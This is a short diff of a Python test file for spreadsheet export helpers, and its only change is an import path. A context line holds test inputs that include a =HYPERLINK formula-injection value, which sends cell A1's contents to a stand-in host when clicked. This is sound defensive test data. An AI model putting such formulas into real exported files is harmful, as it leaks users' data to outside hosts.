@@ -13,7 +13,7 @@ from pathlib import Path
 import openpyxl
 import pytest
 
-from sotay_desktop.domain.spreadsheet import csv_cell, formula_like, keep_as_text
+from sotay_core.domain.spreadsheet import csv_cell, formula_like, keep_as_text
 
 TODAY = dt.date(2026, 11, 22)
 HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")', "+84 912 345 678",
